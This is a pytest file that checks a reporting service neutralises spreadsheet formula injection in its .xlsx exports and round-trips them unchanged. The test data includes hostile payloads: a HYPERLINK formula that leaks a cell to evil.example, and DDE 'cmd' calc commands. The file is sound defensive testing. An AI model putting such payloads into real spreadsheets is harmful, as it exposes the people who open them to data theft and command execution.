"""Texts that start like a formula (=, +, -, @, tab, CR) in every .xlsx we produce are written
as text, not formulas: the roadmap report, the school card and the instrument export (XLSForm),
which still reads back unchanged."""

import io
from datetime import date
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from services.reports.recommendations.models import Decision
from services.surveys.instruments.definition import InstrumentDefinition
from services.surveys.instruments.xlsform import from_xlsform, to_xlsform
from shared.spreadsheets import FORMULA_TRIGGERS, write_row
from tests.reports.documents_world import (
    AS_OF,
    PERIOD,
    TRAINED,
    recommendation,
    roadmap_with_indicators,
)

# One text per dangerous first character, each a formula a spreadsheet would run.
ORGANIZATION = '=HYPERLINK("http://evil.example/?leak="&A1,"Школа 1")'
OTHER_ORGANIZATION = "+7(999)123-45-67 Школа 2"
TERRITORY = "-1+1 Район 1"
CLUSTER = "@SUM(1+1) Кластер 1"
ROADMAP = "\t=1+1 Дорожная карта"
ACTIVITY = "\r=cmd|' /C calc'!A0"
SECTION = "=Подготовка"
GOAL = "=SUM(1,2)"
RECOMMENDATION = "@SUM(1+9)*cmd|' /C calc'!A0"
DECISION = "-2+3 решение"


def cells(data: bytes) -> list[Any]:
    """Every non-empty cell of every sheet of a workbook, opened as a spreadsheet tool would."""
    book = load_workbook(io.BytesIO(data))
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_text_never_formula(data: bytes, dangerous: set[str]) -> list[Any]:
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a formula was written"
    texts = {c.value: c for c in found if isinstance(c.value, str)}
    assert dangerous <= set(texts), dangerous - set(texts)
    for value in dangerous:
        cell = texts[value]
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, value)
    for cell in texts.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix == cell.value.startswith(FORMULA_TRIGGERS), cell.value
    return found


async def rename(db, world) -> None:
    """Names and texts as users typed them (or as an imported document had them)."""
    world.s1.name, world.s2.name = ORGANIZATION, OTHER_ORGANIZATION
    world.m1.name, world.c1.name = TERRITORY, CLUSTER
    await db.flush()
    for statement, value in (
        ("UPDATE api.roadmap SET title = :v WHERE owner_id = :owner", ROADMAP),
        ("UPDATE api.roadmap_section SET title = :v WHERE title = 'Подготовка'", SECTION),
        ("UPDATE api.activity SET title = :v WHERE title = 'Курсы КПК'", ACTIVITY),
        (
            "UPDATE api.roadmap SET passport = jsonb_set(passport, '{goal}',"
            " to_jsonb(CAST(:v AS text))) WHERE owner_id = :owner",
            GOAL,
        ),
    ):
        await db.execute(text(statement), {"v": value, "owner": world.m1.id})
    earlier = recommendation(world, RECOMMENDATION, "authority", world.m1.id, period="2020/2021")
    db.add(earlier)
    await db.flush()
    db.add(
        Decision(
            recommendation_id=earlier.id,
            text=DECISION,
            decided_on=date(2021, 6, 1),
            responsible="=Начальник управления",
            indicator_code="trained",
            scope_type="organization",
            scope_id=world.s1.id,
            period_before="2020/2021",
            value_before=60.0,
        )
    )
    await db.flush()


async def xlsx_of(reports_client, world, path: str, who: str) -> bytes:
    answer = await reports_client.get(
        path,
        params={"as_of": AS_OF, "period": PERIOD, "format": "xlsx"},
        headers=world.headers(who),
    )
    assert answer.status_code == 200, answer.text
    return answer.content


async def test_the_roadmap_report_writes_every_text_as_text(api_client, reports_client, db, world):
    roadmap = await roadmap_with_indicators(api_client, world)
    await rename(db, world)
    data = await xlsx_of(reports_client, world, f"/v1/reports/roadmaps/{roadmap['id']}", "analyst")
    dangerous = {ORGANIZATION, OTHER_ORGANIZATION, TERRITORY, CLUSTER, ROADMAP, ACTIVITY}
    dangerous |= {SECTION, GOAL, DECISION, "=Начальник управления"}
    assert_text_never_formula(data, dangerous)
    # numbers stay numbers
    rows = load_workbook(io.BytesIO(data))["Показатели"].iter_rows(min_row=2)
    school = next(r for r in rows if r[0].value == TRAINED and r[3].value == ORGANIZATION)
    assert school[4].value == 80 and school[4].data_type == "n"


async def test_the_school_card_writes_every_text_as_text(api_client, reports_client, db, world):
    await roadmap_with_indicators(api_client, world)
    await rename(db, world)
    card = f"/v1/reports/organizations/{world.s1.id}"
    data = await xlsx_of(reports_client, world, card, "leader")
    found = assert_text_never_formula(data, {ORGANIZATION, TERRITORY})
    assert any(c.data_type == "n" for c in found)


def dangerous_instrument() -> dict[str, Any]:
    return {
        "code": "formulas",
        "kind": "satisfaction",
        "title": "=1+1 Анкета",
        "description": "+описание",
        "audience": ["parents"],
        "source": "@источник",
        "sections": [
            {
                "code": "s1",
                "title": "-Раздел",
                "questions": [
                    {
                        "code": "q1",
                        "type": "single",
                        "text": '=HYPERLINK("http://evil.example","Вопрос")',
                        "hint": "@подсказка",
                        "options": [
                            {"code": "a", "text": "-1 вариант"},
                            {"code": "b", "text": "+2 вариант"},
                            {"code": "c", "text": "=3"},
                        ],
                    },
                    {
                        "code": "q2",
                        "type": "likert5",
                        "text": "-5 и меньше?",
                        "relevant": {"question": "q1", "equals": "a"},
                    },
                    {"code": "q3", "type": "number", "text": "@число", "min": -5, "max": 10},
                ],
            }
        ],
    }


def test_the_xlsform_writes_texts_as_text_and_reads_them_back_unchanged():
    definition = InstrumentDefinition.model_validate(dangerous_instrument())
    data = to_xlsform(definition)
    dangerous = {"=1+1 Анкета", "+описание", "@источник", "-Раздел", "-1 вариант", "+2 вариант"}
    dangerous |= {"=3", "-5 и меньше?", "@число", "@подсказка"}
    found = assert_text_never_formula(data, dangerous)
    # expressions start with "$", "." or "selected(": text too, and read back as written
    assert {"${q1} = 'a'", ". >= -5 and . <= 10"} <= {c.value for c in found}
    assert from_xlsform(data) == definition


async def test_the_instrument_export_round_trips_through_the_api(surveys_client, world):
    analyst = world.headers("analyst")
    created = await surveys_client.post(
        "/v1/instruments", json=dangerous_instrument(), headers=analyst
    )
    assert created.status_code == 201, created.text
    exported = await surveys_client.get(
        f"/v1/instruments/{created.json()['id']}/export?format=xlsform", headers=analyst
    )
    assert exported.status_code == 200
    assert_text_never_formula(exported.content, {"=1+1 Анкета", "=3", "-Раздел"})
    imported = await surveys_client.post(
        "/v1/instruments/xlsform",
        files={"file": ("formulas.xlsx", exported.content)},
        headers=analyst,
    )
    # The same definition back: no new version (200, unchanged), nothing of it a formula.
    assert imported.status_code == 200, imported.text
    assert imported.json()["unchanged"] is True and imported.json()["version"] == 1
    assert imported.json()["definition"] == created.json()["definition"]


@pytest.mark.parametrize("first", FORMULA_TRIGGERS)
def test_each_dangerous_first_character_is_neutralised(first):
    book = Workbook()
    write_row(book.active, [f"{first}1+1", 42, 1.5, None, "обычный текст", "#N/A", "x\x01y"])
    buffer = io.BytesIO()
    book.save(buffer)
    [row] = load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()
    assert [c.data_type for c in row] == ["s", "n", "n", "n", "s", "s", "s"]
    assert row[0].value == f"{first}1+1" and row[0].quotePrefix
    assert not row[4].quotePrefix and row[5].value == "#N/A"  # text, not an error value
    assert row[6].value == "xy"  # a control character XML cannot hold is dropped
